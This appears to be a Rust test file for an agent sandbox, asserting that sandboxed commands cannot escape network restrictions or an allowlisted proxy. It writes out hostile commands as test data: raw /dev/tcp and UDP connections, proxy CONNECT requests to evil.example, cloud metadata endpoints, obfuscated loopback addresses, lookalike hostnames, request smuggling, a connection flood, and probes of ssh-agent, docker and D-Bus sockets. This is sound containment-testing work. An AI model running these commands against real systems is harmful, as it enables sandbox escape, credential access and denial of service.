//! Attacks over the network: by gates, which have none, and by agents that have a list of hosts.

use super::{
    attack::{Attack, play},
    scene::Scene,
};

const LIST: &str = "network = \"allow\"\nhosts = [\"allowed.example\"]\n";
const GATE: &str = "run = \"sh check.sh\"\n";
const CHECK: &[(&str, &str)] = &[("check.sh", "true\n")];

macro_rules! at_proxy {
    ($head:literal) => {
        concat!(
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128 || exit; printf \"",
            $head,
            "\" >&3; timeout 10 head -n 1 <&3' >> ~/shared/loot/proxy 2>&1"
        )
    };
}

/// The proxy said no to each, and nothing came back from beyond it.
fn refused(scene: &Scene) -> Result<(), String> {
    let said = scene.loot("proxy");
    let ok = !said.contains(" 200")
        && (said.contains(" 403") || said.contains(" 400") || said.contains(" 405"));
    ok.then_some(()).ok_or(said)
}

fn nothing_worked(scene: &Scene) -> Result<(), String> {
    scene.loot_is("worked", "")
}

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "a gate that connects by TCP",
        "echo 'bash -c \"exec 3<>/dev/tcp/127.0.0.1/@TCP@\" && echo tcp > ~/shared/loot/worked; true' > check.sh",
    )
    .gate(GATE)
    .files(CHECK)
    .look(nothing_worked),
    Attack::new(
        "a gate that sends by UDP",
        "echo 'bash -c \"echo x > /dev/udp/127.0.0.1/@UDP@\"; perl -e \"use Socket; socket(S, AF_INET, SOCK_DGRAM, 0); send(S, q(x), 0, sockaddr_in(@UDP@, inet_aton(q(127.0.0.1))))\"; true' > check.sh",
    )
    .gate(GATE)
    .files(CHECK),
    Attack::new(
        "a gate that asks for a name (DNS)",
        "echo 'timeout 5 getent hosts secret.example > ~/shared/loot/worked; cat /proc/net/route | grep -c 00000000 > ~/shared/loot/routes; true' > check.sh",
    )
    .gate(GATE)
    .files(CHECK)
    .look(|scene| nothing_worked(scene).and_then(|()| scene.loot_is("routes", "0"))),
    Attack::new(
        "an agent with a list that connects around the proxy, by TCP",
        "unset http_proxy https_proxy all_proxy; bash -c 'exec 3<>/dev/tcp/127.0.0.1/@TCP@' && echo tcp > ~/shared/loot/worked",
    )
    .sandbox(LIST)
    .look(nothing_worked),
    Attack::new(
        "an agent with a list that sends by UDP and asks for names",
        "bash -c 'echo x > /dev/udp/127.0.0.1/@UDP@'; timeout 5 getent hosts secret.example > ~/shared/loot/worked",
    )
    .sandbox(LIST)
    .look(nothing_worked),
    Attack::new(
        "a host that is not on the list",
        at_proxy!("CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n"),
    )
    .sandbox(LIST)
    .told(&["evil.example:443", "\"refused\":1"])
    .look(refused),
    Attack::new(
        "a host that is not on the list, with one that is in the header beside it",
        concat!(
            at_proxy!("CONNECT evil.example:443 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"), "\n",
            at_proxy!("GET http://127.0.0.1:@TCP@/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"),
        ),
    )
    .sandbox(LIST)
    .look(refused),
    Attack::new(
        "the addresses of cloud metadata",
        concat!(
            at_proxy!("CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT metadata.google.internal:80 HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT [fd00:ec2::254]:80 HTTP/1.1\\r\\n\\r\\n"),
        ),
    )
    .sandbox(LIST)
    .told(&["169.254.169.254:80"])
    .look(refused),
    Attack::new(
        "loopback as a number, in every spelling",
        concat!(
            at_proxy!("CONNECT 127.0.0.1:@TCP@ HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT 2130706433:@TCP@ HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT 0x7f.1:@TCP@ HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT [::1]:@TCP@ HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT [::ffff:127.0.0.1]:@TCP@ HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT 0.0.0.0:@TCP@ HTTP/1.1\\r\\n\\r\\n"),
        ),
    )
    .sandbox(LIST)
    .told(&["127.0.0.1:"])
    .look(refused),
    Attack::new(
        "a name on the list that leads to loopback",
        at_proxy!("CONNECT localhost:@TCP@ HTTP/1.1\\r\\n\\r\\n"),
    )
    .sandbox("network = \"allow\"\nhosts = [\"localhost:1\"]\n")
    .told(&["localhost:"])
    .look(refused),
    Attack::new(
        "names made to look like one on the list",
        concat!(
            at_proxy!("CONNECT allowed.example@evil.example:443 HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT allowed.example.evil.example:443 HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT evilallowed.example:443 HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT allowed.example%%00.evil.example:443 HTTP/1.1\\r\\n\\r\\n"), "\n",
            at_proxy!("CONNECT allowed.example:22 HTTP/1.1\\r\\n\\r\\n"),
        ),
    )
    .sandbox(LIST)
    .told(&["evil.example"])
    .look(refused),
    Attack::new(
        "a second request behind the first (smuggling)",
        at_proxy!("GET http://evil.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nCONNECT 127.0.0.1:@TCP@ HTTP/1.1\\r\\n\\r\\n"),
    )
    .sandbox(LIST)
    .look(refused),
    Attack::new(
        "a head without an end, and hundreds of connections",
        "perl -e 'use Socket; $SIG{PIPE} = \"IGNORE\"; for (1..300) { socket(my $s, AF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in(3128, inet_aton(\"127.0.0.1\"))); syswrite($s, \"GET http://\" . (\"x\" x 100000)); push @all, $s }'",
    )
    .sandbox(LIST)
    .next("true"),
    Attack::new(
        "the sockets of agents of keys, found by their usual names",
        "export SSH_AUTH_SOCK=@HOME@/run/agent.sock; timeout 5 ssh-add -l; perl -e 'use Socket; for my $p (\"@HOME@/run/agent.sock\", \"@HOME@/.gnupg/S.gpg-agent\") { socket(my $s, AF_UNIX, SOCK_STREAM, 0); print \"reached $p\" if connect($s, sockaddr_un($p)) }' > ~/shared/loot/worked",
    )
    .look(nothing_worked),
    Attack::new(
        "sockets of the system: docker, D-Bus, X11, systemd",
        "ls /run/docker.sock /var/run/docker.sock /run/dbus /run/user /run/systemd/private /run/containerd /tmp/.X11-unix /run/podman > ~/shared/loot/worked 2> /dev/null",
    )
    .look(nothing_worked),
    Attack::new(
        "an abstract socket, as X11 and D-Bus have them",
        "perl -e 'use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0); print \"reached\" if connect($s, pack(\"S a*\", AF_UNIX, \"\\0@ABSTRACT@\"))' > ~/shared/loot/worked",
    )
    .look(nothing_worked),
];

#[test]
fn what_has_no_network_reaches_nobody() {
    play(ATTACKS);
}
